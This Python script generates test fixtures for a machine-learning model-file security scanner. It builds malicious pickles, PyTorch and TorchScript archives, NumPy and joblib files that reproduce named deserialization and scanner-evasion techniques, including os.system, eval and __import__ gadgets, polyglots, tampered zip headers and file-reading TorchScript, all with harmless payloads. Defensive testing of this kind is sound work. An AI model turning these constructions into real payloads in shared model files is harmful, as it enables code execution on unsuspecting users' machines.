#!/usr/bin/env python3
"""Write the scanner's fixture corpus: malicious and benign model artifacts.

Usage: python3 scripts/make_scan_fixtures.py crates/mlsec-scan/tests/fixtures

Payloads are harmless (`id`, `true`, `1+1`) and nothing here is ever loaded:
fixtures are written with pickle's own Pickler or assembled opcode by opcode,
and archives with zipfile, then tampered with byte by byte where an advisory
needs it. Stub modules named like torch/sklearn/numpy make pickle record the
same globals those libraries do, so the byte layouts match real files.
`expected.json` records, per file, what the scanner must report.
Each advisory reproduced is named in the entry's `why`.
"""
import io
import json
import os
import pickle
import struct
import sys
import types
import zipfile
import zlib

try:  # before the stub modules below shadow numpy
    import onnx
    from onnx import TensorProto, helper
except ImportError:
    onnx = None
try:  # real joblib and NumPy, also before the stubs
    import joblib
    import numpy as real_np
except ImportError:
    joblib = None

OUT = sys.argv[1]
expected = {}


def put(rel, data, why, min_severity=None, globals_=(), rules=(), max_severity=None):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    expected[rel] = {
        "why": why,
        "min_severity": min_severity,  # the highest finding must be at least this
        "max_severity": max_severity,  # benign: no finding above this
        "globals": list(globals_),      # each must appear in some finding's evidence
        "rules": list(rules),           # each rule must be raised
    }


def stub(modname, **attrs):
    """Register a fake module so pickle records `modname.attr` globals."""
    parts = modname.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
    mod = sys.modules[modname]
    for k, v in attrs.items():
        if isinstance(v, type):
            v.__module__ = modname
            v.__qualname__ = k
        elif callable(v):
            v.__module__ = modname
            v.__qualname__ = k
        setattr(mod, k, v)
    return mod


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def system_call(cmd="id"):
    import posix
    return Reduce(posix.system, (cmd,))


# joblib (written by joblib itself, before any stub module exists) -----------
class _Payload:
    def __reduce__(self):
        import posix
        return posix.system, ("true",)


def _joblib_bytes(obj):
    buf = io.BytesIO()
    joblib.dump(obj, buf)
    return buf.getvalue()


JOBLIB_FILES = {}
if joblib is not None:
    arrays = {"w": real_np.arange(12, dtype=real_np.float32).reshape(3, 4), "ids": real_np.arange(5),
              "names": real_np.array(["a", 1], dtype=object), "n": 3}
    JOBLIB_FILES["benign/arrays.joblib"] = _joblib_bytes(arrays)
    # The payload comes after raw array bytes: only a scanner that skips them finds it.
    JOBLIB_FILES["malicious/payload-after-arrays.joblib"] = _joblib_bytes(
        [real_np.ones((64, 64)), real_np.array([None, "x"], dtype=object), _Payload()])
else:
    print("joblib not installed: joblib fixtures not written", file=sys.stderr)

# ---------------------------------------------------------------- malicious
for proto in range(0, 6):
    put(f"malicious/os-system-p{proto}.pkl", pickle.dumps(system_call(), protocol=proto),
        f"os.system via REDUCE, protocol {proto}", "critical", ["posix.system"], ["MLS-SCAN-001"])

put("malicious/eval.pkl", pickle.dumps(Reduce(eval, ("1+1",)), protocol=2),
    "builtins.eval via REDUCE", "critical", ["builtins.eval"])
put("malicious/exec-p4.pkl", pickle.dumps(Reduce(exec, ("x=1",)), protocol=4),
    "builtins.exec via STACK_GLOBAL + REDUCE", "critical", ["builtins.exec"])

# Dotted STACK_GLOBAL name resolved through an attribute: random._os is os.
dotted = (b"\x80\x04\x8c\x06random\x94\x8c\n_os.system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.")
put("malicious/dotted-random-os-system.pkl", dotted,
    "protocol-4 dotted name: random + _os.system is os.system", "critical", ["random._os.system"])

# STACK_GLOBAL names fetched from the memo after POP.
memo = (b"\x80\x04\x8c\x02os\x94" b"0" b"\x8c\x06system\x94" b"0"
        b"h\x00h\x01\x93\x8c\x04true\x85R.")
put("malicious/memo-stack-global.pkl", memo,
    "STACK_GLOBAL with names read back from the memo after POP", "critical", ["os.system"])

# getattr(__import__('os'), 'system')('true')
gadget = (b"\x80\x02cbuiltins\ngetattr\n"
          b"cbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R"
          b"X\x06\x00\x00\x00system\x86R"
          b"X\x04\x00\x00\x00true\x85R.")
put("malicious/getattr-import-gadget.pkl", gadget,
    "getattr(__import__('os'), 'system') called on its result", "critical",
    ["builtins.getattr", "builtins.__import__"])

# INST and OBJ opcodes (protocol 0/1 object construction).
put("malicious/inst-opcode.pkl", b"(S'true'\nios\nsystem\n.",
    "INST calls os.system", "critical", ["os.system"])
put("malicious/obj-opcode.pkl", b"(cos\nsystem\nS'true'\no.",
    "OBJ calls os.system", "critical", ["os.system"])
put("malicious/newobj-ex.pkl", b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93\x8c\x04true\x85}\x92.",
    "NEWOBJ_EX constructs subprocess.Popen", "critical", ["subprocess.Popen"])
# BUILD calling __setstate__ of a non-allow-listed class.
put("malicious/build-setstate.pkl", b"\x80\x02cevilpkg.hooks\nPayload\n)\x81}b.",
    "BUILD runs Payload.__setstate__", "high", ["evilpkg.hooks.Payload"])

# CVE-2025-1716: pip.main installs (and runs) a package.
put("malicious/pip-main.pkl", b"\x80\x02cpip\nmain\n]X\x07\x00\x00\x00installa\x85R.",
    "CVE-2025-1716: pip.main", "critical", ["pip.main"])
# numpy.testing runstring executes code.
put("malicious/numpy-runstring.pkl",
    b"\x80\x02cnumpy.testing._private.utils\nrunstring\nX\x03\x00\x00\x001+1}\x86R.",
    "numpy.testing._private.utils.runstring executes code", "critical",
    ["numpy.testing._private.utils.runstring"])
# asyncio subprocess (CVE-2025-10157 class: dangerous submodule not on naive deny-lists)
put("malicious/asyncio-subprocess.pkl",
    b"\x80\x04\x8c\x12asyncio.subprocess\x8c\x17create_subprocess_shell\x93\x8c\x04true\x85R.",
    "CVE-2025-10157 class: asyncio.subprocess", "critical", ["asyncio.subprocess.create_subprocess_shell"])

# Nested pickle: pickle.loads(b'<malicious pickle>')
inner = pickle.dumps(system_call(), protocol=4)
put("malicious/nested-loads.pkl", pickle.dumps(Reduce(pickle.loads, (inner,)), protocol=4),
    "a pickle passed as bytes to pickle.loads", "critical", ["_pickle.loads", "posix.system"],
    ["MLS-SCAN-003"])
# Nested through _codecs.encode (protocol 2 writes bytes that way).
put("malicious/nested-codecs.pkl", pickle.dumps(Reduce(pickle.loads, (inner,)), protocol=2),
    "nested pickle as protocol-2 bytes (_codecs.encode)", "critical", ["posix.system"], ["MLS-SCAN-003"])

# nullifAI-style broken pickle: payload, then corruption.
broken = pickle.dumps(system_call(), protocol=2)[:-1] + b"\xff\xfe garbage"
put("malicious/broken-after-payload.pkl", broken,
    "nullifAI: payload executes before the stream breaks", "critical", ["posix.system"], ["MLS-SCAN-004"])
# Truncated in the middle of the payload's arguments.
put("malicious/truncated.pkl", pickle.dumps(system_call("id -a"), protocol=2)[:-6],
    "truncated stream: the global is still imported", "critical", ["posix.system"], ["MLS-SCAN-004"])
# Stacked pickles: a harmless one, then a malicious one.
put("malicious/stacked.pkl", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps(system_call(), protocol=4),
    "second pickle in one stream", "critical", ["posix.system"])
# Extension-registry opcode.
put("malicious/ext-opcode.pkl", b"\x80\x02\x82\x01)R.",
    "EXT1 names a global that cannot be resolved statically", "high", ["copyreg._extension_registry.1"])
# CVE-2025-10155: a pickle under a harmless-looking extension.
put("malicious/model.txt", pickle.dumps(system_call(), protocol=0),
    "CVE-2025-10155: pickle named .txt, recognised by content", "critical", ["posix.system"])

# Functions of well-known libraries that scanners passed as "library code".
# picklescan advisories (2025) and modelscan issue 338 (2026), one STACK_GLOBAL
# + REDUCE each, with a harmless string argument.
LIBRARY_PAYLOADS = [
    ("torch.utils.bottleneck.__main__", "run_cprofile", "critical", "picklescan GHSA-4r9r-ch6f-vxmx"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "critical", "picklescan GHSA-4whj-rm5r-c2v8"),
    ("torch._dynamo.guards", "GuardBuilder.get", "critical", "picklescan GHSA-86cj-95qr-2p4f"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "critical",
     "picklescan GHSA-f4x7-rfwp-v3xw"),
    ("torch.utils.collect_env", "run", "critical", "picklescan GHSA-f745-w6jp-hpxx"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "high", "picklescan GHSA-h3qp-7fh3-f8h4"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", "critical", "picklescan GHSA-vr7h-p6mm-wpmh"),
    ("torch.utils._config_module", "ConfigModule.load_config", "critical", "picklescan GHSA-vv6j-3g6g-2pvj"),
    ("torch.jit.annotations", "parse_type_line", "critical", "CVE-2022-45907: eval of a type comment"),
    ("torch.distributed.rpc", "rpc_sync", "critical", "CVE-2024-5480: RPC runs any function"),
    ("torch.fx.graph_module", "reduce_graph_module", "critical", "GraphModule pickles execute their code"),
    ("ensurepip", "_run_pip", "critical", "picklescan GHSA-xp4f-hrf8-rxw7"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "high", "picklescan GHSA-p9w7-82w4-7q8m"),
    ("idlelib.run", "Executive.runcode", "critical", "picklescan GHSA-m869-42cg-3xwr"),
    ("doctest", "debug_script", "critical", "picklescan GHSA-fqq6-7vqf-w3fg"),
    ("cProfile", "runctx", "critical", "picklescan GHSA-9w88-8rmg-7g2p"),
    ("trace", "Trace.runctx", "critical", "picklescan GHSA-g344-hcph-8vgg"),
    ("uuid", "_get_command_stdout", "critical", "uuid helper that runs a command"),
    ("multiprocessing.util", "spawnv_passfds", "critical", "modelscan issue 338"),
    ("pandas.io.parsers.readers", "read_csv", "high", "modelscan issue 338: exfiltration by URL"),
    ("numpy.ctypeslib", "load_library", "critical", "loads a native library"),
    ("pandas.core.computation.eval", "eval", "critical", "pandas.eval evaluates expressions"),
    ("typing", "get_type_hints", "critical", "typing.get_type_hints evaluates annotation strings"),
    ("accelerate.commands.launch", "launch_command", "critical", "Accelerate's launcher runs scripts"),
    ("lightning.pytorch.cli", "LightningCLI", "high", "LightningCLI instantiates the classes its arguments name"),
    ("torchvision.datasets", "MNIST", "high", "a torchvision dataset class downloads files"),
    ("omegaconf", "OmegaConf.load", "high", "OmegaConf.load reads files"),
    ("statsmodels.iolib.smpickle", "load_pickle", "critical", "statsmodels' load_pickle loads another pickle"),
    ("gensim.utils", "unpickle", "critical", "gensim.utils.unpickle loads another pickle"),
    ("nltk.data", "load", "critical", "nltk.data.load loads resources, pickles included, from files and URLs"),
]
for module, name, severity, why in LIBRARY_PAYLOADS:
    m, n = module.encode(), name.encode()
    body = (b"\x80\x04\x8c" + bytes([len(m)]) + m + b"\x8c" + bytes([len(n)]) + n + b"\x93"
            b"\x8c\x04true\x85R.")
    put(f"malicious/library-{module}.{name}.pkl", body, f"{why}: {module}.{name} called",
        severity, [f"{module}.{name}"])

# modelscan issue 330: numpy.size reads `.shape` of its argument, so BUILD sets
# numpy.size.shape = numpy.__builtins__, numpy.size(numpy.size, 'eval') returns
# eval, and the result is called. Every global is a NumPy one.
put("malicious/numpy-builtins-gadget.pkl", bytes.fromhex(
    "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f9394"
    "9468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73"
    "797374656d28226964222985522e"),
    "modelscan issue 330: numpy.size + numpy.__builtins__ reach eval", "critical",
    ["numpy.__builtins__", "numpy.size"])
# getattr on a module global with a constant name is resolved to the attribute.
put("malicious/getattr-library-function.pkl",
    b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x0btorch.utils\x8c\x0bcollect_env\x93"
    b"\x8c\x03run\x86R\x8c\x04true\x85R.",
    "getattr(torch.utils.collect_env, 'run')('true')", "critical", ["torch.utils.collect_env.run"])
# BUILD on an allow-listed class itself: sets class attributes.
put("malicious/build-on-global.pkl",
    b"\x80\x02ccollections\nOrderedDict\nN}X\x06\x00\x00\x00__eq__X\x01\x00\x00\x00xs\x86b.",
    "BUILD rewrites collections.OrderedDict's attributes", "high", ["collections.OrderedDict"])
# Allow-listed constructors that call a global handed to them.
put("malicious/reconstructor-base.pkl",
    b"\x80\x02ccopyreg\n_reconstructor\ncmypkg\nThing\ncevilpkg.tasks\nRunner\nX\x04\x00\x00\x00true\x87R.",
    "copyreg._reconstructor calls its base class's __new__ and __init__ with the state", "high",
    ["evilpkg.tasks.Runner"])
put("malicious/rebuild-from-type-func.pkl",
    b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cpandas.util._tester\ntest\nctorch._tensor\nTensor\n"
    b"X\x09\x00\x00\x00--version\x85}tR.",
    "torch._tensor._rebuild_from_type_v2 calls its func (here pandas' test runner)", "high",
    ["pandas.util._tester.test"])
# A library class as a gadget: numpy.DataSource's __del__ removes its folder
# (shutil.rmtree) when its state says the folder is temporary. The folder
# named here does not exist.
put("malicious/numpy-datasource-del.pkl",
    b"\x80\x02cnumpy\nDataSource\n)\x81}(X\x0a\x00\x00\x00_istmpdest\x88X\x09\x00\x00\x00_destpath"
    b"X\x1b\x00\x00\x00/nonexistent-mlsec-fixture/ub.",
    "numpy.DataSource with a state that makes its collection delete a folder", "high",
    ["numpy.DataSource"])


# PyTorch-style zip checkpoints ---------------------------------------------
class FakeStorage:
    pass


stub("torch", FloatStorage=type("FloatStorage", (), {}))
stub("torch._utils", _rebuild_tensor_v2=lambda *a: None)


class TensorStub:
    """Pickles like a torch.Tensor: _rebuild_tensor_v2 over a persistent storage."""

    def __init__(self, key, numel, view=None):
        self.key, self.numel = key, numel
        # (storage_offset, size, stride); the whole storage by default.
        self.view = view or (0, (numel,), (1,))

    def __reduce__(self):
        import collections
        storage = FakeStorage()
        storage.key, storage.numel = self.key, self.numel
        offset, size, stride = self.view
        return (sys.modules["torch._utils"]._rebuild_tensor_v2,
                (storage, offset, size, stride, False, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            return ("storage", sys.modules["torch"].FloatStorage, obj.key, "cpu", obj.numel)
        return None


def torch_pickle(obj):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def torch_zip(data_pkl, storages, name="archive", member_name=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", data_pkl)
        z.writestr(f"{name}/byteorder", "little")
        for key, raw in storages.items():
            z.writestr(f"{name}/data/{key}", raw)
        z.writestr(f"{name}/version", "3\n")
    return buf.getvalue()


import collections  # noqa: E402

state = collections.OrderedDict([("fc.weight", TensorStub("0", 6)), ("fc.bias", TensorStub("1", 2))])
benign_torch = torch_zip(torch_pickle(state), {"0": struct.pack("<6f", *range(6)), "1": struct.pack("<2f", 1, 2)})
put("benign/state-dict.pt", benign_torch, "a PyTorch-layout state dict: allow-listed globals only",
    max_severity="info")
put("benign/state-dict-renamed.bin", benign_torch, "the same checkpoint under another extension",
    max_severity="info")

evil_state = collections.OrderedDict([("fc.weight", TensorStub("0", 6)), ("hook", system_call())])
evil_torch = torch_zip(torch_pickle(evil_state), {"0": struct.pack("<6f", *range(6))})
put("malicious/torch-zip-payload.pt", evil_torch, "payload inside archive/data.pkl",
    "critical", ["posix.system"])

# --verify-data: storages whose size disagrees with what data.pkl declares.
# (Plain scans read only pickles, so these are benign until verified.)
short_state = collections.OrderedDict([("w", TensorStub("0", 6))])
put("verify/storage-truncated.pt", torch_zip(torch_pickle(short_state), {"0": struct.pack("<4f", 1, 2, 3, 4)}),
    "storage 0 holds 16 bytes, data.pkl declares 6 float32 (24)", max_severity="info")
put("verify/storage-extra-bytes.pt",
    torch_zip(torch_pickle(short_state), {"0": struct.pack("<6f", *range(6)) + pickle.dumps(system_call())}),
    "storage 0 carries bytes beyond its 6 float32 elements", max_severity="info")

# CVE-2026-24747 class: a tensor view that reaches past its storage (offset 2,
# 4 x 2 elements with stride 2 ends at element 2 + 3*2 + 1*1 + 1 = 10 > 6).
overrun_state = collections.OrderedDict([("w", TensorStub("0", 6, (2, (4, 2), (2, 1))))])
put("malicious/tensor-view-overrun.pt",
    torch_zip(torch_pickle(overrun_state), {"0": struct.pack("<6f", *range(6))}),
    "tensor view past the end of its storage (heap read/write on load, CVE-2026-24747)", "high",
    rules=["MLS-SCAN-008"])
# A view that shares its storage the way torch.save writes slices: in bounds.
view_state = collections.OrderedDict([("w", TensorStub("0", 6)), ("row", TensorStub("0", 6, (3, (3,), (1,)))),
                                      ("col", TensorStub("0", 6, (1, (2,), (3,))))])
put("benign/tensor-views.pt", torch_zip(torch_pickle(view_state), {"0": struct.pack("<6f", *range(6))}),
    "tensors that are views into one storage, all within it", max_severity="info")

# CVE-2026-24747, its other half: SETITEMS applied to a rebuilt tensor, which the
# weights_only loader before PyTorch 2.10 did without checking the type.
tensor_pk = torch_pickle(TensorStub("0", 6))
assert tensor_pk.endswith(b".")
setitem_pk = (b"\x80\x02ccollections\nOrderedDict\n)R(X\x01\x00\x00\x00w"
              + tensor_pk[2:-1]  # the tensor, without PROTO and STOP
              + b"(K\x00K\x07u" + b"u.")
put("malicious/setitem-on-tensor.pt", torch_zip(setitem_pk, {"0": struct.pack("<6f", *range(6))}),
    "CVE-2026-24747: SETITEMS on a tensor, not a dict (heap corruption in weights_only loading)", "high",
    ["torch._utils._rebuild_tensor_v2"], ["MLS-SCAN-008"])

# Polyglots: a pickle at the start of a file that archive readers take for a
# zip (found by its trailing directory) or a tar (by the `ustar` field at 257).
# pickle.load runs the pickle and ignores the rest; a scanner that trusts the
# archive sees only its harmless members.
put("malicious/polyglot-pickle-zip.pt", pickle.dumps(system_call(), protocol=0) + benign_torch,
    "protocol-0 pickle in front of a benign PyTorch zip (zip readers skip prepended bytes)",
    "critical", ["posix.system"], ["MLS-SCAN-005"])
tar_head = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", 512) + b"id #"
tar_pad = 257 - len(tar_head)
tar_blob = tar_head + b" " * tar_pad + b"ustar" + b" " * (512 - 4 - tar_pad - 5) + b"\x85R."
put("malicious/polyglot-pickle-tar.tar", tar_blob + b"\0" * 1024,
    "pickle whose string puts `ustar` at offset 257, where tar readers look", "critical",
    ["posix.system"], ["MLS-SCAN-005"])
# torch.storage._load_from_bytes hands its bytes to torch.load, which reads zip
# checkpoints too: a zip built from a latin-1 string, whose data.pkl is the payload.
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w", compression=zipfile.ZIP_DEFLATED) as z:
    z.writestr(zipfile.ZipInfo("archive/data.pkl", date_time=(1980, 1, 1, 0, 0, 0)),
               pickle.dumps(system_call(), protocol=2))
    z.writestr(zipfile.ZipInfo("archive/version", date_time=(1980, 1, 1, 0, 0, 0)), "3\n")
as_text = zbuf.getvalue().decode("latin1").encode("utf-8")
put("malicious/nested-zip-load-from-bytes.pkl",
    b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX" + struct.pack("<I", len(as_text))
    + as_text + b"X\x06\x00\x00\x00latin1\x86R\x85R.",
    "a zip checkpoint passed to torch.storage._load_from_bytes as a latin-1 string", "critical",
    ["posix.system", "torch.storage._load_from_bytes"], ["MLS-SCAN-003"])

# A payload one archive deeper than the scanner follows (3 levels): reported,
# not passed in silence.
deep = pickle.dumps(system_call(), protocol=4)
for level in range(4):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(zipfile.ZipInfo("data.pkl" if level == 0 else f"level{level}.zip",
                                   date_time=(1980, 1, 1, 0, 0, 0)), deep)
    deep = b.getvalue()
put("malicious/zip-nested-4-deep.zip", deep, "a pickle inside 4 nested zips, one past the depth followed",
    "high", rules=["MLS-SCAN-005"])

# TorchScript (torch.jit.save): code/ holds source that torch.jit.load
# compiles, running __setstate__ while loading; PyTorch <= 2.5.1 did so even
# from torch.load(weights_only=True) (CVE-2025-32434). Written member by
# member in the layout torch.jit.save uses; the payloads only name paths.
def torchscript_zip(code):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in (("model/data.pkl", b"\x80\x02c__torch__\nM\nq\x00)\x81K\x01b."),
                           ("model/code/__torch__.py", code.encode()),
                           ("model/constants.pkl", b"\x80\x02)."),
                           ("model/version", b"1\n")):
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return b.getvalue()


put("malicious/torchscript-setstate-writes-file.pt", torchscript_zip(
    "class M(Module):\n"
    "  __parameters__ = []\n"
    "  __buffers__ = []\n"
    "  training : bool\n"
    "  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
    "    return torch.relu(x)\n"
    "  def __setstate__(self: __torch__.M, state: int) -> None:\n"
    "    _0 = getattr(torch.ops.aten, \"s\\x61ve\")\n"
    "    _0([state], \"/tmp/mlsec-fixture-never-written.pth\")\n"
    "    self.training = False\n"
    "    return None\n"),
    "TorchScript __setstate__ writing a file while torch.jit.load runs (CVE-2025-32434 class)", "critical",
    rules=["MLS-SCAN-013"])
put("malicious/torchscript-forward-reads-file.pt", torchscript_zip(
    "class M(Module):\n"
    "  __parameters__ = []\n"
    "  __buffers__ = []\n"
    "  training : bool\n"
    "  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
    "    leak = torch.from_file(\"/etc/hostname\", False, 64, dtype=0)\n"
    "    return torch.add(x, torch.as_strided(leak, [64], [1], 0))\n"),
    "TorchScript forward that reads a file into a tensor and views it unchecked", "high",
    rules=["MLS-SCAN-013"])
# The lite interpreter (_save_for_lite_interpreter, .ptl) binds operators by
# name from bytecode.pkl's tables; no code/ source is needed to call them.
lite_code = (("instructions", (("STOREN", 1, 2), ("LOADC", 0, 0), ("OP", 0, 0), ("RET", 0, 0))),
             ("operators", (("aten::from_file", "", 3),)),
             ("constants", ("/etc/hostname",)),
             ("types", ()),
             ("register_size", 2))
lite_schema = (("arguments", ()), ("returns", ()))
lite_bytecode = pickle.dumps((8, ("__torch__.M.forward", lite_code, lite_schema)), protocol=2)
b = io.BytesIO()
with zipfile.ZipFile(b, "w") as z:
    for name, data in (("m/data.pkl", b"\x80\x02c__torch__\nM\nq\x00)\x81K\x01b."),
                       ("m/bytecode.pkl", lite_bytecode), ("m/constants.pkl", b"\x80\x02)."),
                       ("m/version", b"8\n")):
        z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
put("malicious/torchscript-lite-bytecode-from-file.ptl", b.getvalue(),
    "a lite-interpreter archive whose bytecode binds aten::from_file (reads any file)", "high",
    rules=["MLS-SCAN-013"])
put("benign/torchscript-module.pt", torchscript_zip(
    "class M(Module):\n"
    "  __parameters__ = [\"weight\", ]\n"
    "  __buffers__ = []\n"
    "  weight : Tensor\n"
    "  training : bool\n"
    "  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
    "    _0 = \"expected torch.save(...) input, got {}D\"  # torch.save in a comment\n"
    "    if torch.gt(torch.dim(x), 2):\n"
    "      ops.prim.RaiseException(torch.format(_0, torch.dim(x)), \"builtins.ValueError\")\n"
    "    else:\n"
    "      pass\n"
    "    _1 = torch.conv1d(x, self.weight, None, [1], [0], [1], 1)\n"
    "    return torch.relu(getattr(self, \"0\").forward(_1))\n"
    "  def __setstate__(self: __torch__.M, state: Tuple[Tensor, bool]) -> None:\n"
    "    self.weight = (state)[0]\n"
    "    self.training = (state)[1]\n"
    "    return None\n"),
    "a TorchScript module: ordinary operators, and a __setstate__ that only assigns", max_severity="low")

# CVE-2025-1889: the pickle sits in a member whose name is not .pkl.
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("model/weights.bin", pickle.dumps(system_call(), protocol=4))
    z.writestr("model/config.json", "{}")
put("malicious/zip-pickle-in-bin-member.zip", buf.getvalue(),
    "CVE-2025-1889: pickle in a member with a non-pickle extension", "critical", ["posix.system"])

# Protocol-0 pickle (no PROTO opcode) inside a zip member.
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
    z.writestr("archive/data.pkl", pickle.dumps({"w": [1, 2]}, protocol=2))
    z.writestr("archive/extra", pickle.dumps(system_call(), protocol=0))
put("malicious/zip-protocol0-member.zip", buf.getvalue(),
    "protocol-0 pickle with no PROTO opcode in a deflated member", "critical", ["posix.system"])

# CVE-2025-1944: local header name differs from the central directory's.
mismatch = bytearray(evil_torch)
i = mismatch.find(b"PK\x03\x04")
nlen = struct.unpack_from("<H", mismatch, i + 26)[0]
name = bytes(mismatch[i + 30:i + 30 + nlen])
mismatch[i + 30:i + 30 + nlen] = name[:-1] + b"1"
put("malicious/zip-name-mismatch.pt", bytes(mismatch),
    "CVE-2025-1944: local/central file name mismatch", "critical", ["posix.system"], ["MLS-SCAN-005"])

# CVE-2025-10156: a bad CRC makes strict readers give up.
bad_crc = bytearray(evil_torch)
c = bad_crc.find(b"PK\x01\x02")
struct.pack_into("<I", bad_crc, c + 16, 0xDEADBEEF)
put("malicious/zip-bad-crc.pt", bytes(bad_crc),
    "CVE-2025-10156: wrong CRC in the central directory", "critical", ["posix.system"])

# CVE-2025-1945: unusual general-purpose flag bits.
flags = bytearray(evil_torch)
for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
    p = 0
    while (p := flags.find(sig, p)) >= 0:
        struct.pack_into("<H", flags, p + off, struct.unpack_from("<H", flags, p + off)[0] | 0x0060)
        p += 4
put("malicious/zip-flag-bits.pt", bytes(flags),
    "CVE-2025-1945: odd general-purpose flag bits", "critical", ["posix.system"])

# Data prepended to the archive.
put("malicious/zip-prepended.pt", b"#!/bin/sh\necho hello\n" * 4 + evil_torch,
    "archive with prepended data", "critical", ["posix.system"], ["MLS-SCAN-005"])

# Legacy (pre-1.6) PyTorch checkpoint: magic, protocol, sys_info, data, keys, raw storage.
MAGIC = 0x1950A86A20F9469CFC6C
legacy = b"".join([
    pickle.dumps(MAGIC, protocol=2),
    pickle.dumps(1001, protocol=2),
    pickle.dumps({"protocol_version": 1001, "little_endian": True,
                  "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
    torch_pickle(collections.OrderedDict([("w", TensorStub("0", 2)), ("x", system_call())])),
    pickle.dumps(["0"], protocol=2),
    struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0),
])
put("malicious/legacy-checkpoint.pt", legacy, "legacy PyTorch checkpoint with a payload in its data pickle",
    "critical", ["posix.system"])
legacy_ok = b"".join([
    pickle.dumps(MAGIC, protocol=2),
    pickle.dumps(1001, protocol=2),
    pickle.dumps({"protocol_version": 1001, "little_endian": True,
                  "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
    torch_pickle(collections.OrderedDict([("w", TensorStub("0", 2))])),
    pickle.dumps(["0"], protocol=2),
    struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0),
])
put("benign/legacy-checkpoint.pt", legacy_ok, "legacy PyTorch checkpoint: tensors only", max_severity="info")
# pickle.dumps(tensor): PyTorch pickles each storage as
# torch.storage._load_from_bytes(<legacy checkpoint bytes>), analysed as nested.
stub("torch.storage", _load_from_bytes=lambda b: None)
put("benign/tensor-pickle.pkl",
    pickle.dumps(Reduce(sys.modules["torch.storage"]._load_from_bytes, (legacy_ok,)), protocol=4),
    "a tensor pickled with pickle.dumps (storage as a nested legacy checkpoint)", max_severity="low")
legacy_evil_blob = pickle.dumps(Reduce(sys.modules["torch.storage"]._load_from_bytes, (legacy,)), protocol=4)
put("malicious/tensor-pickle-payload.pkl", legacy_evil_blob,
    "torch.storage._load_from_bytes hiding a payload in its checkpoint", "critical", ["posix.system"],
    ["MLS-SCAN-003"])


# NumPy ------------------------------------------------------------------------
def npy(descr, shape, body):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


put("malicious/object-array.npy", npy("|O", "(2,)", pickle.dumps([1, system_call()], protocol=3)),
    "NumPy object array holding a payload", "critical", ["posix.system"], ["MLS-SCAN-007"])
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("x.npy", npy("<f4", "(2,)", struct.pack("<2f", 1, 2)))
    z.writestr("meta.npy", npy("|O", "(1,)", pickle.dumps([system_call()], protocol=2)))
put("malicious/object-member.npz", buf.getvalue(), "NPZ with an object-array member",
    "critical", ["posix.system"])
# zipfile also writes bzip2 and LZMA members, and numpy.load reads an .npz
# through zipfile: a payload must not hide behind an unusual method.
for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, blob in (("x.npy", npy("<f4", "(2,)", struct.pack("<2f", 1, 2))),
                           ("meta.npy", npy("|O", "(1,)", pickle.dumps([system_call()], protocol=2)))):
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, blob)
    put(f"malicious/object-member-{label}.npz", buf.getvalue(),
        f"NPZ whose object-array member is {label}-compressed (zip method {method})", "critical", ["posix.system"])
put("benign/floats.npy", npy("<f4", "(3,)", struct.pack("<3f", 1, 2, 3)), "plain float array",
    max_severity="info")

# Bombs: must stay bounded.
bomb = b"\x80\x04]\x94(" + b"h\x00" * 200_000 + b"e."
put("bombs/memo-bomb.pkl", bomb, "memo/stack explosion: must finish, bounded")
deep = b"\x80\x04" + b"(" * 300_000 + b"N."
put("bombs/mark-bomb.pkl", deep, "deep MARK nesting: must finish, bounded")
